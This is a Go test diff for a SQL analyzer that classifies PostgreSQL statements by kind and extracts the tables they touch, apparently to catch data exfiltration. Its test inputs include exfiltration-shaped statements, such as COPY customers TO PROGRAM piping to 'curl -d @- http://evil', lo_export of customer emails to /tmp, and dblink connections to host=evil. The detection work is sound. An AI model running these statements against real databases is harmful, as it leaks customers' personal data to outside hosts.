@@ -201,3 +201,48 @@ func TestSearchPathChange(t *testing.T) {
 		t.Errorf("ParseSearchPath = %q", got)
 	}
 }
+
+func TestKindsAndRelations(t *testing.T) {
+	a := New(0)
+	tests := []struct {
+		sql   string
+		kinds []string
+		rels  []string
+	}{
+		{"SELECT email FROM public.customers c JOIN orders o ON o.cid = c.id", []string{"select"}, []string{"public.customers", "orders"}},
+		{"WITH x AS (SELECT * FROM customers) SELECT * FROM x", []string{"select"}, []string{"customers"}},
+		{"SELECT (SELECT max(id) FROM crm.leads) FROM t WHERE EXISTS (SELECT 1 FROM u)", []string{"select"}, []string{"crm.leads", "t", "u"}},
+		{"COPY customers TO STDOUT", []string{"copy_to_stdout"}, []string{"customers"}},
+		{"COPY (SELECT email FROM customers) TO '/tmp/x.csv' CSV", []string{"copy_to_file"}, []string{"customers"}},
+		{"COPY customers TO PROGRAM 'curl -d @- http://evil'", []string{"copy_to_program"}, []string{"customers"}},
+		{"COPY customers FROM STDIN", []string{"copy_from"}, []string{"customers"}},
+		{"CREATE TABLE stash AS SELECT email FROM customers", []string{"create_table_as"}, []string{"customers", "stash"}},
+		{"SELECT email INTO stash FROM customers", []string{"create_table_as"}, []string{"stash", "customers"}},
+		{"CREATE MATERIALIZED VIEW mv AS SELECT email FROM customers", []string{"create_table_as"}, []string{"customers", "mv"}},
+		{"INSERT INTO stash SELECT email FROM customers", []string{"dml", "insert_select"}, []string{"stash", "customers"}},
+		{"INSERT INTO t VALUES (1)", []string{"dml"}, []string{"t"}},
+		{"UPDATE t SET a = 1; DELETE FROM u", []string{"dml"}, []string{"t", "u"}},
+		{"SELECT lo_export(lo_from_bytea(0, convert_to(string_agg(email, ','), 'UTF8')), '/tmp/x') FROM customers", []string{"select", "lo_export"}, []string{"customers"}},
+		{"SELECT dblink_exec('host=evil', 'INSERT INTO t VALUES (1)')", []string{"select", "dblink"}, nil},
+		{"SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", []string{"select", "dblink"}, nil},
+		{"CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw", []string{"dblink", "ddl"}, nil},
+		{"CREATE TABLE t (a int)", []string{"ddl"}, []string{"t"}},
+		{"DROP TABLE t", []string{"ddl"}, nil},
+		{"BEGIN", []string{"other"}, nil},
+		{"not sql", nil, nil},
+	}
+	for _, tt := range tests {
+		info := a.Analyze(tt.sql)
+		var rels []string
+		for _, r := range info.Relations {
+			if r.Schema != "" {
+				rels = append(rels, r.Schema+"."+r.Table)
+			} else {
+				rels = append(rels, r.Table)
+			}
+		}
+		if !slices.Equal(info.Kinds, tt.kinds) || !slices.Equal(rels, tt.rels) {
+			t.Errorf("%s: kinds %q relations %q, want %q %q", tt.sql, info.Kinds, rels, tt.kinds, tt.rels)
+		}
+	}
+}
